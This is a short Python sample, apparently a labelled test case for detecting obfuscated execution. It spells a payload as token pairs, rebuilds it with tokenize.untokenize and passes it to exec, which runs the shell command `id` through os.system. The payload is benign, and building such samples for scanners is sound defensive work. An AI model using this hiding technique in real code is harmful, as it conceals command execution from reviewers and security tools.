# class: second-stage | technique: payload spelled as (token type, string) pairs, rebuilt with tokenize.untokenize and exec'd | effect: runs `id`
import token
import tokenize

TOKENS = [
    (token.NAME, "import"), (token.NAME, "os"), (token.NEWLINE, "\n"),
    (token.NAME, "os"), (token.OP, "."), (token.NAME, "system"), (token.OP, "("),
    (token.STRING, "'id'"), (token.OP, ")"), (token.NEWLINE, "\n"),
]
exec(tokenize.untokenize(TOKENS))
